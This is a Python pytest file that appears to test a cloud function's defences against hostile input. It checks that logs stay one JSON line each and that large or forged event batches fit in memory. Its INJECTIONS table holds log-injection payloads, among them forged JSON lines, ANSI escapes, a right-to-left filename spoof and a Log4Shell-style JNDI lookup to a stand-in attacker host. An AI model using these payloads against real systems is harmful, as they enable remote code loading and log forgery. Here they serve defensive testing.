"""What somebody sends who means harm: into the log and memory. Refused, and accounted for."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

import pytest

from localcloud.core.faults import error
from soak.instances import Instance
from tests.support import records
from tests.support.function import Function, context, environment, outcomes
from tests.support.records import REGION

if TYPE_CHECKING:
    from collections.abc import Callable

    from localcloud import LocalCloud

pytestmark = pytest.mark.usefixtures("untraced")

CREATE, LOOK = "CreateFlowLog", "DescribeNetworkInterfaces"
HUGE = 10_000
"""As many events as no trigger of the platform ever delivers at once."""

INJECTIONS = {
    "a line": 'x\n{"level":"ERROR","message":"dead letter","dead_letter":{}}',
    "carriage return": "x\r\nlevel=INFO message=report",
    "ANSI": "\x1b[2J\x1b[31mall is well\x1b[0m",
    "JSON": '","message":"report","outcomes":{"created":1},"x":"',
    "line separators": "a\u2028b\u2029c\u0085d\x0b\x0c",
    "right to left": "\u202egnp.exe",
    "NUL": "a\x00b",
    "surrogate": "a\ud800b",
    "SQL of the log": 'x" | select * from log where "1"="1',
    "format": "%s %n {0.__class__} ${jndi:ldap://evil.example/a}",
}


def read_lines(function: Function) -> list[dict[str, Any]]:
    """The log, held against its promise: a JSON object of plain ASCII in each line."""
    text = function.log.getvalue()
    assert text.isascii()
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", text)
    lines = [json.loads(line) for line in text.split("\n")[:-1]]
    assert all(isinstance(line, dict) for line in lines)
    return lines


# Into the log ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_the_log_stays_one_json_line_each(function: Function, text: str) -> None:
    """Whatever names, ids and messages hold: no line of somebody else's, and as many lines as there are letters."""
    hostile = [
        records.created(eventName=text),
        records.created(responseElements=json.dumps({"NetworkInterface": {"NetworkInterfaceId": text}})),
        records.created(eventTime=[text], resourceName=text),
        records.cloud_event(records.created(eventTime=[text]), id=text, subject=text, **{text: text}),
        records.interface_event(interface_id=text),
        records.ensure({"region": text, "interface_id": text}),
        text,
        {text: text},
    ]
    report = function(records.event_list(*hostile))
    assert (report["received"], outcomes(report)) == (8, {"ignored": 1, "dead_lettered": 7})
    lines = read_lines(function)
    assert [line["message"] for line in lines] == ["dead letter"] * 7 + ["report"]
    assert lines[-1]["outcomes"] == report["outcomes"]
    assert len(function.letters()) == 7
    assert all(body.isascii() for body in function.cloud.messages("eni-flowlog-dlq"))


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_the_cloud_s_own_words_are_not_trusted_either(function: Function, cloud: LocalCloud, text: str) -> None:
    """An error's code and message are data like all else."""
    interface_id = cloud.seed_interface(REGION, instance_id=cloud.seed_instance(REGION))
    cloud.faults.add(CREATE, error("Bad." + text.encode("ascii", "ignore").decode(), text.replace("\ud800", "")))
    report = function(records.created(interface_id, cloud.network_of(REGION)[0]))
    assert outcomes(report) == {"dead_lettered": 1}
    assert [line["message"] for line in read_lines(function)] == ["dead letter", "report"]
    assert len(function.letters()) == 1


def test_the_request_id_of_the_platform_is_data_too(function: Function) -> None:
    """It stands in each line."""
    function.run(5, {"time_limit_in_ms": 5_000, "request_id": 'x"}\n{"message":"report"}', "function_name": "a\nb"})
    assert [line["message"] for line in read_lines(function)] == ["dead letter", "report"]


# Into memory ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bring",
    [
        lambda events: records.event_list(*events),
        lambda events: records.cls(*map(json.dumps, events)),
        lambda events: records.ensure(*({key: each[key] for key in ("region", "interface_id")} for each in events)),
    ],
    ids=["a list", "CLS records", "ensure"],
)
def test_ten_thousand_interfaces_fit_the_smallest_function(
    cloud: LocalCloud, bring: Callable[[list[dict[str, str]]], Any]
) -> None:
    """64 MB, of which half is the program: each interface is looked up and reported."""
    events = [records.interface_event(each) for each in cloud.seed_interfaces(REGION, HUGE, attached=False)]
    instance = Instance()
    try:
        run = instance.invoke(bring(events), context(600.0), environment(cloud))
        assert instance.peak_memory() < 64_000_000
    finally:
        instance.close()
    assert run.report is not None
    assert outcomes(run.report) == {"waiting": HUGE}
    assert len(json.dumps(run.report)) < 6_000_000, "what SCF can return"
    assert cloud.calls.count(LOOK) == HUGE / 100


def test_one_payload_that_says_five_hundred_instances(function: Function, cloud: LocalCloud) -> None:
    """A forged RunInstances, and a cloud that refuses the look: each of them is accounted for, and on the queue."""
    cloud.faults.add(LOOK, error("UnauthorizedOperation"))
    ids = [f"ins-{number:08d}" for number in range(500)]
    report = function(records.run_instances(*ids))
    assert outcomes(report) == {"dead_lettered": 500}
    assert sorted(letter["interface"]["instance_id"] for letter in function.letters()) == ids
    assert function.calls() == [LOOK]
